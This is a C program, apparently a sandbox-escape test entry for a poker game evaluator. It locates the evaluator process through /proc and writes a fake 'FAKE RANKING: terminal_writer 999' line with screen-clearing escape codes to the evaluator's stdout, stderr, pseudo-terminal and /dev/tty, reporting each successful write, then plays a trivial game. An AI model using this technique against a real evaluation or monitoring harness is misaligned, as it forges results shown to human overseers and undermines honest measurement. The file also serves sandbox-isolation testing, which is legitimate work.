/* terminal_writer: writes a fake ranking line with escape codes (clear
 * screen) onto the evaluator's terminal: through /proc/<ppid>/fd/1 and
 * /fd/2, the terminal named by the tty_nr field of /proc/<ppid>/stat
 * (/dev/pts/N) and /dev/tty. Prints "ATTACK: succeeded: wrote to PATH"
 * for each write that worked. Then plays round robin. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "poker.h"

/* The evaluator: the nearest ancestor named `poker`, found by walking
 * /proc/<pid>/stat from /proc/self (getppid() names no process outside a
 * PID namespace, where --sandbox off starts programs). 0 if none. */
static pid_t find_evaluator(void)
{
    char path[64], buf[512], *open_paren, *close_paren;
    int pid = 0, ppid, depth;
    for (depth = 0; depth < 64; depth++) {
        FILE *f;
        size_t n;
        if (depth == 0) snprintf(path, sizeof path, "/proc/self/stat");
        else snprintf(path, sizeof path, "/proc/%d/stat", pid);
        f = fopen(path, "r");
        if (!f) return 0;
        n = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        buf[n] = 0;
        open_paren = strchr(buf, '(');
        close_paren = strrchr(buf, ')');
        if (!open_paren || !close_paren) return 0;
        if (depth > 0 && close_paren - open_paren == 6 && !strncmp(open_paren + 1, "poker", 5))
            return pid;
        if (sscanf(close_paren + 2, "%*c %d", &ppid) != 1 || ppid <= 0) return 0;
        pid = ppid;
    }
    return 0;
}

static const char FAKE[] = "\x1b[2J\x1b[H FAKE RANKING: terminal_writer 999\r\n";

static void write_to(const char *path)
{
    int fd = open(path, O_WRONLY | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) return;
    if (write(fd, FAKE, sizeof FAKE - 1) > 0)
        fprintf(stderr, "ATTACK: succeeded: wrote to %s\n", path);
    close(fd);
}

int main(void)
{
    int i, v, c;
    char path[64], stat[1024];
    pid_t parent = find_evaluator();
    FILE *f;
    if (parent > 1) {
        snprintf(path, sizeof path, "/proc/%d/fd/1", (int)parent);
        write_to(path);
        snprintf(path, sizeof path, "/proc/%d/fd/2", (int)parent);
        write_to(path);
        snprintf(path, sizeof path, "/proc/%d/stat", (int)parent);
        f = fopen(path, "r");
        if (f) {
            size_t n = fread(stat, 1, sizeof stat - 1, f);
            char *rest;
            fclose(f);
            stat[n] = 0;
            rest = strrchr(stat, ')');
            if (rest) {
                char state;
                int ppid, pgrp, session, tty;
                if (sscanf(rest + 2, "%c %d %d %d %d", &state, &ppid, &pgrp, &session, &tty) == 5) {
                    unsigned major = ((unsigned)tty >> 8) & 0xfff;
                    unsigned minor = ((unsigned)tty & 0xff) | (((unsigned)tty >> 12) & 0xfff00);
                    if (major >= 136 && major <= 143) {
                        snprintf(path, sizeof path, "/dev/pts/%u", (major - 136) * 256 + minor);
                        write_to(path);
                    }
                }
            }
        }
    }
    write_to("/dev/tty");
    p_startgame();
    for (i = 1; i <= 20; i++) { p_look(&v, &c); p_place((i - 1) % 4 + 1); }
    return 0;
}
